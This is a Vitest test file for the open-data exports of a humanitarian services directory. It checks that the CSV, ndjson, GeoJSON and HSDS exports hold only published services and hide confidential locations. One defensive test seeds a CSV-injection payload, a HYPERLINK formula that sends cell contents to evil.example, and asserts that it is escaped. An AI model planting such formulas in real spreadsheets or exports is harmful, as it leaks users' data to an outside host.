import { env, exports } from 'cloudflare:workers';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { parsePhoneNumberFromString } from 'libphonenumber-js/min';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONFIDENTIAL_LOCATION_MARKERS, SAMPLE_MARKERS, sampleDirectory } from '../../db/seed/sample-directory.mjs';
import { PATHWAY_MARKERS } from '../../db/seed/sample-pathways.mjs';
import { growDirectory, shrinkDirectory } from '../support/grow-directory.ts';
import { get, type ApiResponse } from '../support/http.ts';
import { hsdsErrors, responseSchema } from '../support/hsds-schemas.ts';

// The full exports: every published service, nothing unpublished or practitioner-only, in forms
// that parse back (ndjson, CSV with papaparse, GeoJSON, the HSDS data package).
const EXPORTS = '/api/v1/exports';

interface SampleService {
  id: string;
  status: string;
  names: Record<string, string>;
  locations: Array<{ id: string }>;
}
const sample = sampleDirectory(new Date()) as { services: SampleService[] };
const published = sample.services.filter((s) => s.status === 'published');
const unpublished = sample.services.filter((s) => s.status !== 'published');
const publishedIds = published.map((s) => s.id).sort();

/** An export as a client downloads it: status, headers and the text (ndjson is not one JSON document). */
async function download(path: string): Promise<ApiResponse> {
  const response = await exports.default.fetch(`https://masar.test${EXPORTS}${path}`);
  const text = await response.text();
  if (response.status !== 200) throw new Error(`${path} → ${response.status} ${text}`);
  const json = /^application\/(geo\+)?json/.test(response.headers.get('Content-Type') ?? '');
  return { status: response.status, headers: response.headers, text, body: json ? JSON.parse(text) : text };
}

const parseCsv = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });

describe('the exports', () => {
  const texts = new Map<string, string>();
  beforeAll(async () => {
    for (const path of [
      '/services.ndjson',
      '/services.csv',
      '/locations.geojson',
      '/hsds/services.json',
      '/hsds/services.csv',
      '/hsds/attributes.csv',
      '/hsds/pathways.json',
    ]) {
      texts.set(path, (await download(path)).text);
    }
  }, 60_000);

  it('are streamed, not built in memory: the body is a stream', async () => {
    const response = await exports.default.fetch(`https://masar.test${EXPORTS}/services.ndjson`);
    expect(response.body).toBeInstanceOf(ReadableStream);
    expect(response.headers.get('Content-Length')).toBeNull();
    const reader = response.body!.getReader();
    const first = await reader.read();
    expect(first.done).toBe(false);
    await reader.cancel();
  });

  it('ndjson: one valid HSDS service per line, every published service once', () => {
    const lines = texts.get('/services.ndjson')!.trimEnd().split('\n');
    const services = lines.map((line) => JSON.parse(line));
    expect(services.map((s) => s.id).sort()).toEqual(publishedIds);
    for (const s of services) {
      expect(hsdsErrors(s, responseSchema('/services/{id}')).map((e) => e.error)).toEqual([]);
    }
  });

  it('CSV for spreadsheets parses back with papaparse: one row per published service, with its facts', () => {
    const { data, errors, meta } = parseCsv(texts.get('/services.csv')!);
    expect(errors).toEqual([]);
    expect(meta.fields).toEqual(
      expect.arrayContaining(['id', 'name', 'female_staff', 'anonymous_reporting', 'sample']),
    );
    expect(data.map((r) => r.id).sort()).toEqual(publishedIds);
    for (const row of data) expect(row.female_staff).toMatch(/^(yes|on_request|no|unknown)$/);
    const karbalaId = published.find((s) => s.names.en === 'Case management, Karbala (sample)')!.id;
    const karbala = data.find((r) => r.id === karbalaId)!;
    expect(karbala.other_contacts).toMatch(/https:\/\/wa\.me\//);
    expect(karbala.hours).toContain('Su-Th 08:00-14:00');
  });

  it('GeoJSON: a FeatureCollection of every site; a confidential site has no geometry and no address', () => {
    const collection = JSON.parse(texts.get('/locations.geojson')!);
    expect(collection.type).toBe('FeatureCollection');
    expect(collection.features.map((f: { id: string }) => f.id).sort()).toEqual(
      published.flatMap((s) => s.locations.map((l) => l.id)).sort(),
    );
    for (const f of collection.features) {
      expect(f.type).toBe('Feature');
      if (f.geometry) {
        expect(f.geometry.type).toBe('Point');
        expect(f.geometry.coordinates).toEqual([expect.any(Number), expect.any(Number)]);
      }
    }
    const confidential = collection.features.filter((f: any) => f.properties.confidential);
    expect(confidential.length).toBeGreaterThan(0);
    for (const f of confidential) {
      expect(f.geometry).toBeNull();
      expect(f.properties.address).toBeNull();
      expect(f.properties.area_pcode).toMatch(/^[A-Z]{2}G\d+$/); // its governorate, no finer
    }
  });

  it('the HSDS data package: descriptor with HSDS table schemas, and every file it names is there', async () => {
    const { body } = await download('/hsds/datapackage.json');
    expect(body.profile).toBe('tabular-data-package');
    for (const resource of body.resources) {
      const file = await download(`/hsds/${resource.path}`);
      if (resource.format === 'csv') {
        const { errors, meta } = parseCsv(file.text);
        expect({ path: resource.path, errors }).toEqual({ path: resource.path, errors: [] });
        expect(meta.fields).toEqual(resource.schema.fields.map((f: { name: string }) => f.name));
      } else {
        expect(() => JSON.parse(file.text)).not.toThrow();
      }
    }
    const services = parseCsv(texts.get('/hsds/services.csv')!).data;
    expect(services.map((s) => s.id).sort()).toEqual(publishedIds);
    const json = JSON.parse(texts.get('/hsds/services.json')!);
    expect(json.map((s: { id: string }) => s.id).sort()).toEqual(publishedIds);
  });

  it('every CSV export is header then one line per record, written whole by papaparse: no blank line', async () => {
    const { body } = await download('/hsds/datapackage.json');
    const tables = body.resources.filter((r: { format?: string }) => r.format === 'csv');
    expect(tables.length).toBeGreaterThan(5);
    const paths = ['/services.csv', ...tables.map((r: { path: string }) => `/hsds/${r.path}`)];
    for (const path of paths) {
      const text = (await download(path)).text;
      // Strict: no skipEmptyLines, so a blank line would be a row (with a TooFewFields error).
      const { data, errors, meta } = Papa.parse<Record<string, string>>(text, { header: true });
      const lines = Papa.parse<string[]>(text).data;
      const ids = data.map((r) => r.id);
      expect({ path, errors, blank: lines.filter((l) => l.every((v) => v === '')).length }).toEqual({
        path,
        errors: [],
        blank: 0,
      });
      // One row per record: each row a record of its own id, and every line after the header a row.
      expect({ path, rows: data.length, lines: lines.length - 1, ids: new Set(ids).size }).toEqual({
        path,
        rows: lines.length - 1,
        lines: data.length,
        ids: data.length,
      });
      expect({ path, missingId: ids.filter((id) => !id).length, fields: meta.fields?.length }).toEqual({
        path,
        missingId: 0,
        fields: lines[0]!.length,
      });
    }
    const services = Papa.parse<Record<string, string>>((await download('/services.csv')).text, { header: true });
    expect(services.data.map((r) => r.id).sort()).toEqual(publishedIds);
    const hsdsServices = Papa.parse<Record<string, string>>((await download('/hsds/services.csv')).text, {
      header: true,
    });
    expect(hsdsServices.data.map((r) => r.id).sort()).toEqual(publishedIds);
  });

  it('the HSDS data package downloads as one zip that unzips to the same files', async () => {
    const response = await exports.default.fetch(`https://masar.test${EXPORTS}/hsds/datapackage.zip`);
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe('application/zip');
    expect(response.headers.get('Content-Disposition')).toMatch(/attachment; filename=".+\.zip"/);
    expect(response.body).toBeInstanceOf(ReadableStream);
    const files = unzipSync(new Uint8Array(await response.arrayBuffer()));
    const descriptor = JSON.parse(strFromU8(files['datapackage.json']!));
    const { body } = await download('/hsds/datapackage.json');
    expect(descriptor.resources).toEqual(body.resources);
    expect(Object.keys(files).sort()).toEqual(
      ['datapackage.json', ...body.resources.map((r: { path: string }) => r.path)].sort(),
    );
    for (const resource of body.resources.filter((r: { format?: string }) => r.format === 'csv')) {
      const file = await download(`/hsds/${resource.path}`);
      expect({ path: resource.path, same: strFromU8(files[resource.path]!) === file.text }).toEqual({
        path: resource.path,
        same: true,
      });
    }
    expect(JSON.parse(strFromU8(files['services.json']!))).toEqual(JSON.parse(texts.get('/hsds/services.json')!));
  });

  it('the tabular attributes carry every fact of the JSON, linked to its entity', () => {
    const attributes = parseCsv(texts.get('/hsds/attributes.csv')!).data;
    const json = JSON.parse(texts.get('/hsds/services.json')!);
    for (const service of json.slice(0, 5)) {
      for (const a of service.attributes) {
        expect(attributes).toContainEqual(
          expect.objectContaining({
            id: a.id,
            link_id: service.id,
            taxonomy_term_id: a.taxonomy_term_id,
            value: a.value ?? '',
          }),
        );
      }
    }
  });

  it.each([...SAMPLE_MARKERS, ...CONFIDENTIAL_LOCATION_MARKERS, ...PATHWAY_MARKERS])(
    'no export contains the restricted %s',
    (marker) => {
      for (const [path, text] of texts) expect({ path, leaks: text.includes(marker) }).toEqual({ path, leaks: false });
    },
  );

  it('no export names a draft or closed service', () => {
    for (const s of unpublished) {
      for (const [path, text] of texts) expect({ path, named: text.includes(s.id) }).toEqual({ path, named: false });
    }
  });

  it('are open data: any origin may read them; an unknown parameter or file is refused', async () => {
    const response = await get(`${EXPORTS}/`, { Origin: 'https://partner.example' });
    expect(response.headers.get('Access-Control-Allow-Origin')).toBe('*');
    const refused = await get(`${EXPORTS}/services.csv?colour=blue`);
    expect({ status: refused.status, names: refused.body.errors.map((e: { name: string }) => e.name) }).toEqual({
      status: 400,
      names: ['colour'],
    });
    expect((await get(`${EXPORTS}/hsds/secrets.csv`)).status).toBe(404);
  });
});

describe('CSV exports opened in a spreadsheet', () => {
  // A name a maintainer typed that Excel or LibreOffice would run as a formula (CSV injection).
  const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Open")';
  const grown: string[] = [];
  const csvs = new Map<string, string>();
  beforeAll(async () => {
    grown.push(...(await growDirectory(env.DB, 1, { name: FORMULA })));
    const { body } = await download('/hsds/datapackage.json');
    const tables = body.resources.filter((r: { format?: string }) => r.format === 'csv');
    for (const path of ['/services.csv', ...tables.map((r: { path: string }) => `/hsds/${r.path}`)])
      csvs.set(path, (await download(path)).text);
  }, 60_000);
  afterAll(() => shrinkDirectory(env.DB, grown));

  it('a name starting with = goes out with a leading quote in every CSV that holds names, never as a formula', () => {
    const named = new Map<string, string[]>();
    for (const [path, text] of csvs) {
      const cells = Papa.parse<string[]>(text).data.flat();
      // A number (a longitude of -90.5) is written as a number: a spreadsheet reads it as one.
      const formulas = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
      expect({ path, formulas }).toEqual({ path, formulas: [] });
      const withName = cells.filter((c) => c.includes(FORMULA));
      if (withName.length) named.set(path, withName);
    }
    // The service's own row in the spreadsheet CSV and in HSDS services.csv: the name, after one quote.
    expect(named.get('/services.csv')).toEqual([expect.stringMatching(/^'=HYPERLINK\(.* \d+$/)]);
    expect(named.get('/hsds/services.csv')).toEqual([expect.stringMatching(/^'=HYPERLINK\(.* \d+$/)]);
    for (const [path, cells] of named)
      for (const cell of cells)
        expect({ path, quoted: cell.startsWith(`'${FORMULA}`) }).toEqual({ path, quoted: true });
  });

  it("a phone number (+964…) goes out as '+964…, which still reads as the same number", () => {
    const rows = Papa.parse<Record<string, string>>(csvs.get('/services.csv')!, { header: true }).data;
    const phones = rows.find((r) => r.id === grown[0])?.phones ?? '';
    expect(phones).toBe("'+9647700000000");
    expect(parsePhoneNumberFromString(phones.slice(1))?.number).toBe('+9647700000000');
    const hsdsPhones = Papa.parse<Record<string, string>>(csvs.get('/hsds/phones.csv')!, { header: true }).data;
    expect(hsdsPhones.find((r) => r.service_id === grown[0])?.number).toBe("'+9647700000000");
  });
});
